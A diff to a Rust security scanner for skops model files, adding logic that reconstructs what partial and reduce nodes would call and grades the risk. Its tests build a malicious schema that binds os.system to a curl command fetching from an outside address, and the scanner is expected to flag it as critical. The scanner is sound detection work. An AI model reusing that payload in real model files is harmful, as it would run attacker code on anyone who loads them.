@@ -4,6 +4,7 @@
 //! type, and the loader that builds it; both are weighed. Members of the archive are read by the archive reader.
 
 use super::malformed::{MALFORMED_STRUCTURE, broken, malformed};
+use crate::call::{self, Argument, Call, How, Name, Verdict, json};
 use crate::pickle::knowledge::{Standing, standing};
 use crate::text::indicators::inspect_metadata;
 use crate::wire::json_tree::{self, Document, NodeId, Value};
@@ -380,14 +381,28 @@ impl Node<'_> {
     }
 
     fn name(&self, module: &str, name: &str, loader: &str, scan: &mut Scan<'_>) {
+        let call = self.call(module, name, loader);
+        let verdict = call::verdict(&call, self.document.offset(self.id), scan);
         match standing(module, name) {
-            Standing::Safe { .. } => {}
+            Standing::Safe { .. } => {
+                if let Some(verdict) = verdict {
+                    let message = format!("loading {}", verdict.does);
+                    scan.report(self.finding(&SKOPS_DANGEROUS_TYPE, message).severity(verdict.severity));
+                }
+            }
             Standing::Gadget { severity, why, sole_reference, .. } => {
-                let called =
-                    matches!(loader, "ObjectNode" | "ReduceNode" | "ConstructorNode" | "MethodNode" | "");
+                if call.how != How::Named {
+                    // A look-up that folds is judged by what it gives; an unknown function is told of at its own node.
+                    let counts =
+                        |verdict: &Verdict| loader != "PartialNode" || verdict.severity >= Severity::High;
+                    if let Some(verdict) = verdict.filter(counts) {
+                        let message = format!("loading {}", verdict.does);
+                        scan.report(self.finding(&SKOPS_DANGEROUS_TYPE, message).severity(verdict.severity));
+                    }
+                    return;
+                }
                 // A function in a schema is there to be called by the estimator that holds it.
-                let severity =
-                    if called { severity } else { sole_reference.max(severity.min(Severity::High)) };
+                let severity = sole_reference.max(severity.min(Severity::High));
                 let message = format!("loading brings in `{module}.{name}`, which {why}");
                 scan.report(self.finding(&SKOPS_DANGEROUS_TYPE, message).severity(severity));
             }
@@ -399,12 +414,123 @@ impl Node<'_> {
                     || (module.is_empty() && KNOWN_BUILTINS.contains(&name));
                 if !known {
                     let message = format!("loading needs the unknown type `{module}.{name}`");
-                    scan.report(self.finding(&SKOPS_UNKNOWN_TYPE, message).confidence(Confidence::Medium));
+                    let worst = verdict.filter(|verdict| verdict.severity >= Severity::Medium);
+                    let (severity, message) = match worst {
+                        Some(verdict) => (verdict.severity, format!("{message} and {}", verdict.does)),
+                        None => (Severity::Low, message),
+                    };
+                    let finding = self.finding(&SKOPS_UNKNOWN_TYPE, message).severity(severity);
+                    scan.report(finding.confidence(Confidence::Medium));
                 }
             }
         }
     }
+
+    /// What building the node calls, under the name `module.name`.
+    fn call(&self, module: &str, name: &str, loader: &str) -> Call {
+        described(
+            self.document,
+            self.id,
+            Name { module: module.to_owned(), name: name.to_owned() },
+            loader,
+            NESTED,
+        )
+    }
 }
+
+/// What the node at `id` makes its loader call. Source: `skops/io/_general.py`, `_sklearn.py` and `_numpy.py`.
+fn described(document: &Document<'_>, id: NodeId, callee: Name, loader: &str, depth: u32) -> Call {
+    let special = |id: NodeId| Some(argument(document, id, depth.checked_sub(1)?));
+    let content = document.get(id, "content");
+    let part = |key| content.and_then(|content| document.get(content, key));
+    let value = |id: Option<NodeId>| id.map(|id| json::argument(document, id, &special));
+    let items = |id: Option<NodeId>| match value(id) {
+        Some(Argument::Sequence(items)) => items,
+        Some(other) => vec![other],
+        None => Vec::new(),
+    };
+    let mut call = Call { callee, ..Call::of_path("", How::Named) };
+    match loader {
+        "ObjectNode" | "" => {
+            call.how = How::Made;
+            call.state = value(content);
+        }
+        "ReduceNode" | "TreeNode" | "SGDNode" | "LossNode" | "ConstructorNode" => {
+            call.how = How::Called;
+            call.arguments =
+                items(document.get(id, "__reduce__").and_then(|reduce| document.get(reduce, "args")));
+        }
+        "MethodNode" => {
+            call.how = How::Called;
+        }
+        // The function is there to be called with what it is bound to.
+        "PartialNode" => {
+            call.how = How::Called;
+            call.arguments = value(part("func")).into_iter().chain(items(part("args"))).collect();
+            if let Some(Argument::Mapping(pairs)) = value(part("kwds")) {
+                let named = pairs.into_iter().filter_map(|(key, value)| match key {
+                    Argument::Text(key) => Some((key, value)),
+                    _ => None,
+                });
+                call.keywords = named.collect();
+            }
+            if let Some(Argument::Name(function)) = call.arguments.first().cloned() {
+                call.arguments.remove(0);
+                call.callee = function;
+            }
+        }
+        _ => {}
+    }
+    call
+}
+
+/// What the node at `id` stands for as an argument.
+fn argument(document: &Document<'_>, id: NodeId, depth: u32) -> Argument {
+    let text = |key: &str| document.get_text(id, key).unwrap_or_default();
+    let content = document.get(id, "content");
+    let special = |id: NodeId| Some(argument(document, id, depth.checked_sub(1)?));
+    let inside = |key: &str| content.and_then(|content| document.get_text(content, key)).map(str::to_owned);
+    let module = text("__module__").to_owned();
+    match text("__loader__") {
+        "FunctionNode" => Argument::Name(Name {
+            module: inside("module_path").unwrap_or(module),
+            name: inside("function").unwrap_or_else(|| text("__class__").to_owned()),
+        }),
+        "TypeNode" => Argument::Name(Name {
+            module: inside("__module__").unwrap_or(module),
+            name: inside("__class__").unwrap_or_default(),
+        }),
+        "JsonNode" => {
+            let json = content.and_then(|content| document.text(content)).unwrap_or_default();
+            let inner = json_tree::parse(json);
+            inner.root().map_or(Argument::Unknown, |root| json::argument(&inner, root, &|_| None))
+        }
+        "ListNode" | "TupleNode" | "SetNode" | "DictNode" | "DefaultDictNode" => {
+            content.map_or(Argument::Unknown, |content| match document.value(content) {
+                Value::Object
+                    if !document.is_object(content) || document.get(content, "__loader__").is_none() =>
+                {
+                    let pairs = json::keywords(document, content, &[], &special);
+                    Argument::Mapping(
+                        pairs.into_iter().map(|(key, value)| (Argument::Text(key), value)).collect(),
+                    )
+                }
+                _ => json::argument(document, content, &special),
+            })
+        }
+        loader @ ("ObjectNode" | "ReduceNode" | "PartialNode") => {
+            let callee = Name { module, name: text("__class__").to_owned() };
+            match depth.checked_sub(1) {
+                Some(depth) => Argument::Result(Box::new(described(document, id, callee, loader, depth))),
+                None => Argument::Unknown,
+            }
+        }
+        _ => Argument::Unknown,
+    }
+}
+
+/// Nodes inside nodes that are read as arguments.
+const NESTED: u32 = 8;
 
 #[cfg(test)]
 mod tests {
@@ -464,6 +590,45 @@ mod tests {
         );
         let schema = br#"{"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "file": "../x.npy"}"#;
         assert_eq!(rules_of(&SKOPS, schema), ["model/skops-path-escape"]);
+    }
+
+    #[test]
+    fn a_partial_is_judged_by_the_function_and_what_it_is_bound_to() {
+        let bound = |module: &str, function: &str, text: &str| {
+            let function = format!(
+                r#"{{"__class__": "function", "__module__": "builtins", "__loader__": "FunctionNode", "content": {{"module_path": "{module}", "function": "{function}"}}}}"#
+            );
+            let text = format!(
+                r#"{{"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": "\"{text}\""}}"#
+            );
+            let args = format!(
+                r#"{{"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": [{text}]}}"#
+            );
+            let schema = node(
+                "partial",
+                "functools",
+                "PartialNode",
+                &format!(r#"{{"func": {function}, "args": {args}}}"#),
+            );
+            let found = outcome(&SKOPS, &schema);
+            found.findings.into_iter().map(|finding| (finding.severity, finding.message)).max()
+        };
+        let (severity, message) = bound("os", "system", "curl http://203.0.113.7/x").unwrap();
+        assert_eq!(severity, Severity::Critical);
+        assert!(message.contains("runs `curl`"), "{message}");
+        assert_eq!(bound("my_package", "fetch", "http://203.0.113.7/x").unwrap().0, Severity::High);
+        assert_eq!(bound("numpy", "sqrt", "x"), None);
+    }
+
+    #[test]
+    fn an_object_made_without_its_constructor_is_not_judged_by_it() {
+        let made =
+            node("SentenceTransformer", "sentence_transformers.SentenceTransformer", "ObjectNode", "{}");
+        assert_eq!(rules_of(&SKOPS, &made), Vec::<&str>::new());
+        assert_eq!(
+            outcome(&SKOPS, &node("system", "os", "ObjectNode", "{}")).findings[0].severity,
+            Severity::Critical
+        );
     }
 
     proptest! {
